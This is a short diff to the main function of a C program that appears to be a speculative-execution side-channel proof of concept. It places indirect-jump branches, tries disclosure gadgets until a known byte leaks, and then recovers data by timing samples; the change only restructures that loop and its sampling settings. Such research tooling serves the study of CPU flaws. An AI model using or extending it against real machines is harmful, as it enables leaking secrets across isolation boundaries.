@@ -45,6 +45,8 @@ static int sample(int index)
 
 int main(int argc, char **argv)
 {
+	int known_was_read = 0;
+
 	parse_options(argc, argv);
 	if (!options.address || !options.branches.count || !options.disclosures.count)
 		errx(2, "expected --address, --branch and --disclosure");
@@ -56,11 +58,10 @@ int main(int argc, char **argv)
 	prepare_receiving();
 	for (int i = 0; i < options.branches.count; i++)
 		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
-	for (int i = 0; i < options.disclosures.count; i++) {
+	for (int i = 0; i < options.disclosures.count && !known_was_read; i++) {
 		choose(options.disclosures.at[i]);
-		if (reads_known_byte(read_byte, array + SHARED_KNOWN))
-			break;
+		known_was_read = reads_known_byte(read_byte, array + SHARED_KNOWN);
 	}
-	recover(sample, (struct patience){ .samples = 16, .lead = 2 }, 1);
+	recover(sample, patience_after(known_was_read), 1);
 	return 0;
 }
